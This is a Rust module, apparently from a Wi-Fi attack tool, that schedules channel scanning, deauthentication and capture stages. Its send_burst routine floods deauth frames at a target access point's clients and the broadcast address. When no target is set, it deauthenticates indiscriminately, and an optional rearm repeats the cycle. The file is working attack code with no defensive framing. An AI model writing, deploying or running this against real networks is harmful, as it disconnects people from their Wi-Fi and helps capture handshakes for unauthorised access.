//! Stage machine that drives the radio: scan, deauthenticate, capture.
//!
//! The scheduler never sees frames. It reads the session to decide where to
//! park and whom to deauthenticate, and advances purely on the clock passed
//! to [`Scheduler::tick`].

use std::time::Duration;

use log::{debug, info, warn};
use serde::{Deserialize, Serialize};

use crate::deauth::build_deauth;
use crate::interface::Radio;
use crate::mac::MacAddress;
use crate::session::{Objective, Session};
use crate::storage::Storage;

pub const FIRST_CHANNEL: u8 = 1;
pub const LAST_CHANNEL: u8 = 13;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Stage {
    Scanning,
    Deauthing,
    Capturing,
    Done,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default)]
pub struct SchedulerConfig {
    pub start_stage: Stage,
    /// Channel tuned first; hopping proceeds upward from here.
    pub start_channel: u8,
    pub scan_dwell_ms: u64,
    pub scan_hop_interval_ms: u64,
    /// Skip the deauth stage entirely and capture passively.
    pub deauth_enabled: bool,
    pub deauth_duration_ms: u64,
    pub deauth_hop_interval_ms: u64,
    pub deauth_interval_ms: u64,
    /// Transmissions per destination in one burst.
    pub burst_count: u32,
    pub burst_spacing_ms: u64,
    pub capture_duration_ms: u64,
    pub capture_hop_interval_ms: u64,
    /// Stay on the target's channel instead of hopping once it is known.
    pub park_on_target: bool,
    pub objective: Objective,
    /// Reset the session and start over after `Done`.
    pub rearm: bool,
}

impl Default for SchedulerConfig {
    fn default() -> Self {
        SchedulerConfig {
            start_stage: Stage::Scanning,
            start_channel: FIRST_CHANNEL,
            scan_dwell_ms: 10_000,
            scan_hop_interval_ms: 500,
            deauth_enabled: true,
            deauth_duration_ms: 30_000,
            deauth_hop_interval_ms: 5_000,
            deauth_interval_ms: 100,
            burst_count: 10,
            burst_spacing_ms: 2,
            capture_duration_ms: 60_000,
            capture_hop_interval_ms: 3_000,
            park_on_target: true,
            objective: Objective::Either,
            rearm: false,
        }
    }
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct SchedulerStats {
    pub rounds: u32,
    pub deauth_frames_sent: u64,
    pub transmit_failures: u64,
    pub channel_failures: u64,
}

pub struct Scheduler {
    config: SchedulerConfig,
    stage: Stage,
    stage_entered_ms: u64,
    channel: u8,
    /// Channel last confirmed by the radio.
    tuned: Option<u8>,
    last_hop_ms: u64,
    last_deauth_ms: Option<u64>,
    stats: SchedulerStats,
}

pub fn next_channel(channel: u8) -> u8 {
    if channel >= LAST_CHANNEL || channel < FIRST_CHANNEL {
        FIRST_CHANNEL
    } else {
        channel + 1
    }
}

impl Scheduler {
    pub fn new(config: SchedulerConfig, now_ms: u64) -> Self {
        let mut scheduler = Scheduler {
            stage: config.start_stage,
            channel: config.start_channel,
            config,
            stage_entered_ms: now_ms,
            tuned: None,
            last_hop_ms: now_ms,
            last_deauth_ms: None,
            stats: SchedulerStats { rounds: 1, ..Default::default() },
        };
        if scheduler.stage == Stage::Deauthing && !scheduler.config.deauth_enabled {
            scheduler.stage = Stage::Capturing;
        }
        info!("Scheduler starting in {:?}", scheduler.stage);
        scheduler
    }

    pub fn stage(&self) -> Stage {
        self.stage
    }

    pub fn channel(&self) -> u8 {
        self.channel
    }

    pub fn stats(&self) -> &SchedulerStats {
        &self.stats
    }

    pub fn config(&self) -> &SchedulerConfig {
        &self.config
    }

    /// Starts a new round from the configured first stage. The caller is
    /// responsible for resetting the session.
    pub fn restart(&mut self, now_ms: u64) {
        self.stats.rounds += 1;
        let stage = match self.config.start_stage {
            Stage::Deauthing if !self.config.deauth_enabled => Stage::Capturing,
            Stage::Done => Stage::Scanning,
            stage => stage,
        };
        self.enter(stage, now_ms);
    }

    /// Advances the state machine to `now_ms` and performs whatever radio
    /// work the current stage calls for.
    pub fn tick<S, R>(&mut self, now_ms: u64, session: &mut Session<S>, radio: &mut R) -> Stage
    where
        S: Storage + Clone,
        R: Radio,
    {
        self.advance(now_ms, session);

        match self.stage {
            Stage::Scanning => {
                self.hop_if_due(now_ms, self.config.scan_hop_interval_ms);
                self.tune(radio);
            }
            Stage::Deauthing => {
                match self.parked_channel(session) {
                    Some(channel) => self.channel = channel,
                    None => self.hop_if_due(now_ms, self.config.deauth_hop_interval_ms),
                }
                self.tune(radio);
                let due = self
                    .last_deauth_ms
                    .map_or(true, |last| now_ms.saturating_sub(last) >= self.config.deauth_interval_ms);
                if due {
                    self.last_deauth_ms = Some(now_ms);
                    self.send_burst(session, radio);
                }
            }
            Stage::Capturing => {
                match self.parked_channel(session) {
                    Some(channel) => self.channel = channel,
                    None => self.hop_if_due(now_ms, self.config.capture_hop_interval_ms),
                }
                self.tune(radio);
            }
            Stage::Done => {}
        }
        self.stage
    }

    fn advance<S: Storage + Clone>(&mut self, now_ms: u64, session: &mut Session<S>) {
        let elapsed = now_ms.saturating_sub(self.stage_entered_ms);
        match self.stage {
            Stage::Scanning if elapsed >= self.config.scan_dwell_ms => {
                let next = if self.config.deauth_enabled {
                    Stage::Deauthing
                } else {
                    Stage::Capturing
                };
                self.enter(next, now_ms);
            }
            Stage::Deauthing if elapsed >= self.config.deauth_duration_ms => {
                self.enter(Stage::Capturing, now_ms);
            }
            Stage::Capturing => {
                if session.objective_met(self.config.objective) {
                    info!("Capture objective {:?} met", self.config.objective);
                    self.finish(now_ms, session);
                } else if elapsed >= self.config.capture_duration_ms {
                    info!("Capture window of {} ms elapsed", self.config.capture_duration_ms);
                    self.finish(now_ms, session);
                }
            }
            _ => {}
        }
    }

    fn finish<S: Storage + Clone>(&mut self, now_ms: u64, session: &mut Session<S>) {
        session.flush();
        self.enter(Stage::Done, now_ms);
        if self.config.rearm {
            session.reset();
            self.restart(now_ms);
        }
    }

    fn enter(&mut self, stage: Stage, now_ms: u64) {
        if stage != self.stage {
            info!("Stage {:?} -> {:?} on channel {}", self.stage, stage, self.channel);
        }
        self.stage = stage;
        self.stage_entered_ms = now_ms;
        self.last_hop_ms = now_ms;
        self.last_deauth_ms = None;
    }

    fn parked_channel<S: Storage + Clone>(&self, session: &Session<S>) -> Option<u8> {
        if !self.config.park_on_target {
            return None;
        }
        session.target().and_then(|t| t.channel)
    }

    fn hop_if_due(&mut self, now_ms: u64, interval_ms: u64) {
        if self.tuned.is_some() && now_ms.saturating_sub(self.last_hop_ms) >= interval_ms {
            self.channel = next_channel(self.channel);
            self.last_hop_ms = now_ms;
        }
    }

    fn tune<R: Radio>(&mut self, radio: &mut R) {
        if self.tuned == Some(self.channel) {
            return;
        }
        match radio.set_channel(self.channel) {
            Ok(()) => {
                debug!("Tuned to channel {}", self.channel);
                self.tuned = Some(self.channel);
            }
            Err(e) => {
                // Counts as tuned so hopping continues; the next hop retries the driver.
                warn!("Failed to set channel {}: {}", self.channel, e);
                self.stats.channel_failures += 1;
                self.tuned = Some(self.channel);
            }
        }
    }

    fn send_burst<S, R>(&mut self, session: &Session<S>, radio: &mut R)
    where
        S: Storage + Clone,
        R: Radio,
    {
        let frames: Vec<_> = match session.target() {
            Some(target) => std::iter::once(MacAddress::BROADCAST)
                .chain(session.clients().copied())
                .map(|dest| build_deauth(target.bssid, dest))
                .collect(),
            None => vec![build_deauth(MacAddress::BROADCAST, MacAddress::BROADCAST)],
        };

        for round in 0..self.config.burst_count {
            if round > 0 && self.config.burst_spacing_ms > 0 {
                std::thread::sleep(Duration::from_millis(self.config.burst_spacing_ms));
            }
            for frame in &frames {
                match radio.transmit(frame) {
                    Ok(()) => self.stats.deauth_frames_sent += 1,
                    Err(e) => {
                        debug!("Deauth transmit failed: {}", e);
                        self.stats.transmit_failures += 1;
                    }
                }
            }
        }
    }
}
